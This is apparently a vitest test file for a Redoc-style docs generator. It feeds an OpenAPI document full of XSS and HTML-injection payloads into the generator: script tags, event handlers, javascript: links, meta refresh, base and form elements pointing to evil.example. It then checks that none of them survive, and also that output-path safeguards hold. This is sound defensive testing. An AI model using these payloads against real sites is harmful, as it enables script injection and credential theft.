// Tests of npm run docs with a hostile document: HTML in its descriptions has no effect.
import { execFile } from "node:child_process";
import { mkdtemp, readFile, readlink, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import { documentOf } from "../support/generate.js";

const harm = [
  "<script>CANARY()</script></script><script>CANARY()</script>",
  "<img src=x onerror=CANARY()>",
  "<svg onload=CANARY()></svg>",
  "<iframe srcdoc='<script>CANARY()</script>'></iframe>",
  "[link](javascript:CANARY()) <a href='javascript:CANARY()'>link</a>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<META HTTP-EQUIV=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=password></form>",
  "<style>body { display: none }</style>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
].join("\n\n");

let folder: string;
let page: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "halves-docs-"));
  const spec = documentOf({
    info: { title: harm, version: harm, description: `${harm}\n\nA <b>bold</b> word, \`<meta>\` in code.` },
    tags: [{ name: harm, description: harm }],
    paths: {
      "/x": { get: { tags: [harm], summary: harm, description: harm, responses: { 200: { description: harm } } } },
    },
  });
  await writeFile(join(folder, "openapi.json"), JSON.stringify(spec));
  await promisify(execFile)(process.execPath, [
    "--import",
    "tsx",
    "scripts/docs/docs.ts",
    "--spec",
    join(folder, "openapi.json"),
    "--out",
    join(folder, "docs.html"),
  ]);
  page = await readFile(join(folder, "docs.html"), "utf8");
}, 60_000);
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The elements of the page, those of Redoc's own scripts and styles aside, and what they hold as data. */
const elements = (): readonly string[] =>
  page
    .replace(/<(script|style)[^>]*>.*?<\/\1>/gs, "<$1>")
    .replace(/ data-\w+="[^"]*"/g, "")
    .match(/<[a-z][^>]*>/gi) ?? [];

test("no element from it loads, submits, embeds or styles anything", () => {
  expect(
    elements().filter((each) =>
      /^<(?:iframe|base|form|input|object|embed|link(?! rel="preload" as="image"))\b/i.test(each),
    ),
  ).toEqual([]);
  expect(
    elements().filter((each) => /^<meta\b/i.test(each) && !/charset|viewport|Content-Security-Policy/.test(each)),
  ).toEqual([]);
  expect(elements().filter((each) => /\s(?:on\w+|href|src)=\W*(?:javascript:)?CANARY/i.test(each))).toEqual([]);
});

test("no script and no style comes from it", () => {
  const own = [...page.matchAll(/<(script|style)[^>]*>(.*?)<\/\1>/gs)].filter(([, , text = ""]) =>
    /^\s*(?:CANARY|body \{ display)/.test(text),
  );
  expect(own).toEqual([]);
});

test("elements that mark up text are kept, and code is shown unchanged", () => {
  // Not `toContain`, which would print two megabytes.
  expect(["<b>bold</b>", "<code>&lt;\u2060meta&gt;</code>"].filter((each) => !page.includes(each))).toEqual([]);
});

test("a foreign file is overwritten only with --force, and a document never", async () => {
  const docs = (...args: readonly string[]) =>
    promisify(execFile)(process.execPath, ["--import", "tsx", "scripts/docs/docs.ts", ...args]).then(
      () => "",
      ({ stderr }: { stderr: string }) => stderr,
    );
  const [spec, notes] = [join(folder, "openapi.json"), join(folder, "notes.html")];
  await writeFile(notes, "<html><head></head>mine</html>");
  const document = await readFile(spec, "utf8");
  expect(await docs(spec, "--out", notes)).toBe(
    `error: ${notes} is not a page that npm run docs wrote; --force overwrites it. Nothing was written.\n`,
  );
  expect(await docs(spec, "--out", spec, "--force")).toBe(
    `error: ${spec} is a document that is being read. Nothing was written.\n`,
  );
  expect([await readFile(notes, "utf8"), await readFile(spec, "utf8")]).toEqual([
    "<html><head></head>mine</html>",
    document,
  ]);
  for (const [name, target] of [
    ["linked.html", notes],
    ["broken.html", join(folder, "nothing.html")],
  ] as const) {
    await symlink(target, join(folder, name));
    expect(await docs(spec, "--out", join(folder, name), "--force")).toBe(
      `error: ${join(folder, name)} is a symbolic link, which is not followed. Nothing was written.\n`,
    );
    expect(await readlink(join(folder, name))).toBe(target);
  }
  expect(await docs(spec, "--out", folder, "--force")).toBe(`error: ${folder} is not a file. Nothing was written.\n`);
  expect(await docs(spec, "--out", "")).toContain("error: --out takes the path of a file. Nothing was written.\n");
  expect(await docs(spec, "--out", join(folder, "docs.html"))).toBe("");
}, 120_000);
